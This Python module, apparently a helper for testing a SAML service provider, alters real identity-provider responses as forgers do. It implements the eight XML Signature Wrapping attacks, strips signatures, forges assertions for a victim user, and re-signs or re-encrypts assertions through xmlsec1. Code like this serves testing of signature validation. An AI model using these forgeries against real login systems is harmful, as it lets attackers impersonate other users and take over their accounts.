"""Real responses of a real identity provider, changed as forgers change them."""

import base64
import copy
import subprocess
import tempfile
from collections.abc import Callable, Mapping
from pathlib import Path

from lxml import etree

SAMLP = "{urn:oasis:names:tc:SAML:2.0:protocol}"
SAML = "{urn:oasis:names:tc:SAML:2.0:assertion}"
DS = "{http://www.w3.org/2000/09/xmldsig#}"
XENC = "{http://www.w3.org/2001/04/xmlenc#}"

Change = Callable[[etree._Element], None]
"""Changes the response in place."""

VICTIM = "victim@uni.example"


def opened(fields: Mapping[str, str]) -> etree._Element:
    return etree.fromstring(base64.b64decode(fields["SAMLResponse"]))


def closed(response: etree._Element | bytes, fields: Mapping[str, str]) -> dict[str, str]:
    document = response if isinstance(response, bytes) else etree.tostring(response)
    return {**fields, "SAMLResponse": base64.b64encode(document).decode()}


def one(element: etree._Element, path: str) -> etree._Element:
    found = element.find(path)
    assert found is not None, path
    return found


def assertion_of(response: etree._Element) -> etree._Element:
    return one(response, f"{SAML}Assertion")


def drop(element: etree._Element) -> etree._Element:
    parent = element.getparent()
    assert parent is not None
    parent.remove(element)
    return element


def unsigned(response: etree._Element) -> etree._Element:
    for signature in list(response.iter(f"{DS}Signature")):
        drop(signature)
    return response


def evil(assertion: etree._Element, identifier: str = "_evil") -> etree._Element:
    """A copy that says of somebody else, without a signature."""
    made = copy.deepcopy(assertion)
    made.set("ID", identifier)
    for signature in made.findall(f"{DS}Signature"):
        drop(signature)
    one(made, f"{SAML}Subject/{SAML}NameID").text = "victim"
    for value in made.iter(f"{SAML}AttributeValue"):
        value.text = VICTIM
    return made


def xsw1(response: etree._Element) -> None:
    """The signed response inside the signature of a forged one."""
    original, signature = _forged_response(response)
    etree.SubElement(signature, f"{DS}Object").append(original)


def xsw2(response: etree._Element) -> None:
    """The signed response before the signature of a forged one."""
    original, signature = _forged_response(response)
    signature.addprevious(original)


def xsw3(response: etree._Element) -> None:
    """A forged assertion before the signed one."""
    assertion = assertion_of(response)
    assertion.addprevious(evil(assertion))


def xsw4(response: etree._Element) -> None:
    """A forged assertion around the signed one."""
    assertion = assertion_of(response)
    forged = evil(assertion)
    assertion.addprevious(forged)
    forged.append(assertion)


def xsw5(response: etree._Element) -> None:
    """The signature in a forged assertion, the signed one behind it."""
    assertion = assertion_of(response)
    forged = evil(assertion)
    one(forged, f"{SAML}Issuer").addnext(drop(one(assertion, f"{DS}Signature")))
    assertion.addprevious(forged)


def xsw6(response: etree._Element) -> None:
    """The signed assertion inside the signature of a forged one."""
    xsw5(response)
    forged, assertion = response.findall(f"{SAML}Assertion")
    one(forged, f"{DS}Signature").append(assertion)


def xsw7(response: etree._Element) -> None:
    """A forged assertion with the same ID in an extension, where schemas allow anything."""
    assertion = assertion_of(response)
    extensions = etree.Element(f"{SAMLP}Extensions")
    extensions.append(evil(assertion, assertion.get("ID", "")))
    one(response, f"{SAMLP}Status").addprevious(extensions)


def xsw8(response: etree._Element) -> None:
    """The signed assertion in an object of the signature of a forged one."""
    xsw5(response)
    forged, assertion = response.findall(f"{SAML}Assertion")
    etree.SubElement(one(forged, f"{DS}Signature"), f"{DS}Object").append(assertion)


def _forged_response(response: etree._Element) -> tuple[etree._Element, etree._Element]:
    original = copy.deepcopy(response)
    drop(one(original, f"{DS}Signature"))
    response.set("ID", "_evil-response")
    assertion = assertion_of(response)
    response.replace(assertion, evil(assertion))
    return original, one(response, f"{DS}Signature")


def xmlsec1(*arguments: str, document: bytes) -> bytes:
    with tempfile.TemporaryDirectory() as name:
        source, target = Path(name) / "in.xml", Path(name) / "out.xml"
        source.write_bytes(document)
        options = [str(source) if each == "@" else each for each in arguments]
        subprocess.run(
            ["xmlsec1", options[0], "--output", str(target), *options[1:]], check=True, capture_output=True
        )
        return target.read_bytes()


def signed_again(response: etree._Element, key: Path, certificate: Path | None = None) -> bytes:
    """The response with its assertion signed as it now is, and no signature of its own."""
    for signature in response.findall(f"{DS}Signature"):
        drop(signature)
    signature = one(assertion_of(response), f"{DS}Signature")
    one(signature, f"{DS}SignedInfo/{DS}Reference/{DS}DigestValue").text = ""
    one(signature, f"{DS}SignatureValue").text = ""
    drop(one(signature, f"{DS}KeyInfo"))
    private = str(key)
    if certificate is not None:
        etree.SubElement(etree.SubElement(signature, f"{DS}KeyInfo"), f"{DS}X509Data")
        private = f"{key},{certificate}"
    assertion = "urn:oasis:names:tc:SAML:2.0:assertion:Assertion"
    return xmlsec1(
        "--sign", "--privkey-pem", private, "--id-attr:ID", assertion, "@", document=etree.tostring(response)
    )


_TEMPLATE = """<xenc:EncryptedData xmlns:xenc="http://www.w3.org/2001/04/xmlenc#"
 xmlns:ds="http://www.w3.org/2000/09/xmldsig#" Type="http://www.w3.org/2001/04/xmlenc#Element">
<xenc:EncryptionMethod Algorithm="{cipher}"/><ds:KeyInfo><xenc:EncryptedKey>
<xenc:EncryptionMethod Algorithm="{transport}"/><xenc:CipherData><xenc:CipherValue/></xenc:CipherData>
</xenc:EncryptedKey></ds:KeyInfo><xenc:CipherData><xenc:CipherValue/></xenc:CipherData></xenc:EncryptedData>"""
GCM = "http://www.w3.org/2009/xmlenc11#aes256-gcm"
OAEP = "http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p"
RSA_1_5 = "http://www.w3.org/2001/04/xmlenc#rsa-1_5"


def encrypted(
    response: etree._Element, certificate: Path, *, cipher: str = GCM, transport: str = OAEP
) -> etree._Element:
    """The response with its assertion encrypted for a certificate, and no signature of its own."""
    for signature in response.findall(f"{DS}Signature"):
        drop(signature)
    assertion = assertion_of(response)
    apart = etree.fromstring(etree.tostring(assertion))
    with tempfile.NamedTemporaryFile(suffix=".xml") as data:
        data.write(etree.tostring(apart))
        data.flush()
        sealed = xmlsec1(
            "--encrypt",
            "--pubkey-cert-pem",
            str(certificate),
            "--session-key",
            "aes-256",
            "--xml-data",
            data.name,
            "@",
            document=_TEMPLATE.format(cipher=cipher, transport=transport).encode(),
        )
    wrapper = etree.Element(f"{SAML}EncryptedAssertion")
    wrapper.append(etree.fromstring(sealed))
    response.replace(assertion, wrapper)
    return response
